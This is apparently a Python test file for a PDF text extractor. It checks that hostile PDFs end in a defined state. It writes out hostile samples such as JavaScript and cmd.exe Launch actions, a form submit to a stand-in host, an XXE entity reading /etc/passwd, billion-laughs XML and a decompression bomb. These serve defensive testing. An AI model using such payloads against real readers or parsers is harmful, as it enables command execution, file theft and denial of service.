"""Hostile PDFs: actions, absurd pages, loops, floods, polyglots. Each ends in a state."""

from __future__ import annotations

import io
import time
import zipfile
import zlib

import pytest

from tests.extract.archive.opening import opened
from tests.extract.pdf_making import line, one_page, pages, raw, stream


@pytest.mark.parametrize(
    ("action", "flag"),
    [
        (b"/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>", "javascript"),
        (b"/OpenAction<</S/J#61vaScript/J#53(app.alert\\(1\\))>>", "javascript"),
        (b"/Names<</JavaScript<</Names[(a)<</S/JavaScript/JS(x)>>]>>>>", "javascript"),
        (b"/OpenAction<</S/Launch/F(cmd.exe)>>", "launch"),
        (b"/OpenAction<</S/SubmitForm/F(http://collect.example/x)>>", "external_reference"),
        (b"/OpenAction<</S/GoToR/F(//server/share/a.pdf)/D[0/Fit]>>", "external_reference"),
    ],
)  # fmt: skip
def test_case_13_actions_are_flagged_and_never_run(action: bytes, flag: str) -> None:
    found = opened(one_page(line("words"), catalog=action), "a.pdf")
    assert flag in found.root.flags
    assert found.text == "words"


def test_case_13_an_action_inside_an_object_stream_is_seen() -> None:
    inner = b"10 0 <</S/Launch/F(cmd.exe)>>"
    first = inner.index(b"<<")
    packed = zlib.compress(inner)
    objects = {
        1: b"<</Type/Catalog/Pages 2 0 R/OpenAction 10 0 R>>",
        2: b"<</Type/Pages/Count 1/Kids[3 0 R]>>",
        3: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 600 800]>>",
        4: stream(packed, b"/Type/ObjStm/N 1/First %d/Filter/FlateDecode" % first),
    }
    plain = raw(objects)
    plain = plain[: plain.rindex(b"xref\n0")]
    table = b"".join(
        bytes((1,)) + plain.index(b"\n%d 0 obj" % n if n > 1 else b"1 0 obj").to_bytes(4, "big")
        + bytes((0,)) for n in range(1, 5)
    )  # fmt: skip
    rows = bytes(6) + table + bytes(6 * 5) + b"\x02" + (4).to_bytes(4, "big") + b"\0"
    at = len(plain)
    cross = b"11 0 obj\n" + stream(
        rows + b"\x01" + at.to_bytes(4, "big") + b"\0",
        b"/Type/XRef/W[1 4 1]/Size 12/Root 1 0 R",
    )
    data = plain + cross + b"\nendobj\nstartxref\n%d\n%%%%EOF\n" % at
    assert "launch" in opened(data, "a.pdf").root.flags


@pytest.mark.parametrize("side", [14_400, 2_000_000_000])
@pytest.mark.parametrize("unit", [b"", b"/UserUnit 1000"])
def test_case_14_absurd_pages_cost_nothing(side: int, unit: bytes) -> None:
    data = one_page(b"1 g " + line("words") + b"0 g 0 0 300 300 re f\n", page=unit)
    data = data.replace(b"/MediaBox[0 0 600 800]", b"/MediaBox[0 0 %d %d]" % (side, side))
    found = opened(data, "a.pdf")
    assert "words" in found.text
    assert found.root.state == "warnings"
    assert "larger than" in found.root.message


def _broken() -> dict[str, bytes]:
    good = pages("words")
    table = good.rindex(b"xref\n0")
    loop = good[:table] + good[table:].replace(b"/Root", b"/Prev %d/Root" % table)
    kids = {
        1: b"<</Type/Catalog/Pages 2 0 R>>",
        2: b"<</Type/Pages/Count 2/Kids[2 0 R 3 0 R]>>",
        3: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 600 800]>>",
    }
    selfish = {
        1: b"<</Type/Catalog/Pages 2 0 R>>",
        2: b"<</Type/Pages/Count 1/Kids[3 0 R]>>",
        3: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 600 800]/Contents 4 0 R"
        b"/Resources<</XObject<</X 5 0 R>>>>>>",
        4: stream(b"/X Do"),
        5: stream(b"/X Do", b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]"
                            b"/Resources<</XObject<</X 5 0 R>>>>"),
    }  # fmt: skip
    outline = one_page(
        line("words"),
        catalog=b"/Outlines 10 0 R",
        more={
            10: b"<</Type/Outlines/First 11 0 R/Last 11 0 R>>",
            11: b"<</Title(a)/Parent 10 0 R/Next 11 0 R/First 11 0 R>>",
        },
    )
    lengths = one_page(line("words")).replace(b"/Length 3", b"/Length -3")
    chain = raw(
        {
            1: b"<</Type/Catalog/Pages 2 0 R>>",
            2: b"<</Type/Pages/Count 1/Kids[3 0 R]>>",
            3: b"4 0 R", 4: b"5 0 R", 5: b"3 0 R",
        }
    )  # fmt: skip
    fields = one_page(
        line("words"),
        catalog=b"/AcroForm<</Fields[10 0 R]>>",
        more={10: b"<</T(a)/Kids[10 0 R]/Parent 10 0 R>>"},
    )
    return {
        "table refers to itself": loop,
        "page tree in a circle": raw(kids),
        "form draws itself": raw(selfish),
        "outline in a circle": outline,
        "negative length": lengths,
        "references in a circle": chain,
        "fields in a circle": fields,
        "nested arrays": one_page(line("words"), catalog=b"/X " + b"[" * 100_000 + b"]" * 100_000),
        "nested dictionaries": one_page(line("words"), catalog=b"/X " + b"<</A" * 50_000),
        "no page": raw({1: b"<</Type/Catalog>>"}),
        "only a header": b"%PDF-1.7\n",
    }


@pytest.mark.parametrize("how", _broken())
def test_case_15_loops_and_nesting_end(how: str) -> None:
    began = time.process_time()
    found = opened(_broken()[how], "a.pdf")
    assert found.root.state in ("ok", "warnings", "corrupt"), how
    assert found.root.state == "ok" or found.root.message
    assert time.process_time() - began < 60


def test_case_16_only_the_first_pages_of_a_flood_are_read() -> None:
    data = pages(*(f"page {n}" for n in range(60)))
    found = opened(data, "a.pdf", limits={"pages": 25})
    assert found.root.state == "limit:pages"
    assert found.text.count("\f") == 24
    assert found.root.page_count == 60


def test_case_16_a_page_shared_a_hundred_thousand_times() -> None:
    objects = {
        1: b"<</Type/Catalog/Pages 2 0 R>>",
        2: b"<</Type/Pages/Count 100000/Kids[%s]>>" % (b"3 0 R " * 100_000),
        3: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 600 800]>>",
    }
    found = opened(raw(objects), "a.pdf", limits={"pages": 50})
    assert found.root.state in ("limit:pages", "warnings", "ok", "corrupt")


def test_text_beyond_the_limit_is_cut_and_said() -> None:
    found = opened(pages(*["words " * 50] * 30), "a.pdf", limits={"text_bytes": 2000})
    assert found.root.state == "limit:text"
    assert len(found.text) == 2000


def test_a_bomb_among_the_embedded_files_stops_at_the_budget() -> None:
    bomb = zlib.compress(bytes(32 << 20), 9)
    data = one_page(
        line("cover"),
        catalog=b"/Names<</EmbeddedFiles<</Names[(x)<</F(x)/EF<</F 10 0 R>>>>]>>>>",
        more={10: stream(bomb, b"/Type/EmbeddedFile/Filter/FlateDecode")},
    )
    found = opened(data, "a.pdf", budget=1 << 20)
    assert found.root.state == "limit:expansion"
    assert found.text == "cover"


def test_case_19_a_pdf_that_is_a_zip_as_well_keeps_both_types() -> None:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("hidden.txt", "words")
    found = opened(pages("the page") + buffer.getvalue(), "a.pdf")
    assert found.root.mime_type == "application/pdf"
    assert found.root.metadata["also_type"] == "application/zip"
    assert "mismatch" in found.root.flags
    assert "the page" in found.text


def test_xml_inside_is_parsed_without_entities(tmp_path: object) -> None:
    xfa = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>' \
          b"<data><a>&e; words</a></data>"  # fmt: skip
    laughs = b'<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">' \
             b'<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]><x xmlns:dc="http://purl.org/dc/' \
             b'elements/1.1/"><dc:title>&c;&c;</dc:title></x>'  # fmt: skip
    data = one_page(
        line("page"),
        catalog=b"/AcroForm<</Fields[]/XFA 10 0 R>>/Metadata 11 0 R",
        more={10: stream(xfa), 11: stream(laughs, b"/Type/Metadata/Subtype/XML")},
    )
    found = opened(data, "a.pdf")
    assert "root:" not in found.text
    assert "words" in found.text
    assert "haha" not in found.root.title


def test_every_flipped_byte_ends_in_a_state() -> None:
    data = one_page(
        line("words"),
        page=b"/Annots[10 0 R]",
        more={
            10: b"<</Type/Annot/Subtype/FileAttachment/Rect[1 1 9 9]"
            b"/FS<</Type/Filespec/F(a.txt)/EF<</F 11 0 R>>>>>>",
            11: stream(b"file", b"/Type/EmbeddedFile"),
        },
    )
    for at in range(0, len(data), 7):
        hurt = data[:at] + bytes((data[at] ^ 0x55,)) + data[at + 1 :]
        for case in (hurt, data[:at]):
            found = opened(case, "a.pdf")
            assert found.root.state
